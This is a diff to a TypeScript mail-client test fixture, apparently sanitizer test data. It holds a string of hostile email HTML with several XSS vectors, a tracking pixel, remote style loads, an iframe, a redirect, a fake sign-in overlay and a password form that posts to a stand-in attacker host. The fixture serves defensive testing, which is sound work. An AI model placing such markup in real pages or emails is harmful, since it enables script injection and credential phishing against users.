@@ -1,6 +1,6 @@
 import type { MailText } from './mailText';
 
-/** Attack markup: none of it may run, load or be submitted. */
+/** Attack markup. None of it may run, load or be submitted. */
 const hostile = `<h1 onclick="alert('click')">You have won</h1><script>alert('script')</script><img src="x" onerror="alert('error')"><img src="https://tracker.totally-real-prizes.example/pixel.gif?who=maren" width="1" height="1"><style>@import url(https://totally-real-prizes.example/style.css); body { background: url(https://totally-real-prizes.example/back.png) }</style><iframe src="https://totally-real-prizes.example"></iframe><svg><script>alert('svg')</script></svg><form action="https://totally-real-prizes.example/steal" method="post"><label>Password <input type="password" name="password"></label><button>Collect</button></form><a href="javascript:alert('link')">Collect your prize</a><base href="https://totally-real-prizes.example/"><meta http-equiv="refresh" content="0;url=https://totally-real-prizes.example/"><p style="position:fixed;inset:0;z-index:99999">Your session has ended. Sign in again.</p>`;
 
 export const spamTexts: readonly MailText[] = [
